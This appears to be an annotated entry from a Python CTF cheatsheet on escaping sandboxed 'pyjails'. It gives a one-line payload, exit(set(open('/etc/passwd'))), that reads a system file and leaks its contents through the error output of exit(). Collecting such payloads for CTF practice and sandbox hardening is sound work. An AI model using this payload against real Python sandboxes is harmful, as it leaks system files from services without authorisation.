# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (exit(set(open('flag'))))
# Family: exit-quit
# What: exit()/quit() objects print their argument: exfiltrates a file via stderr
exit(set(open("/etc/passwd")))
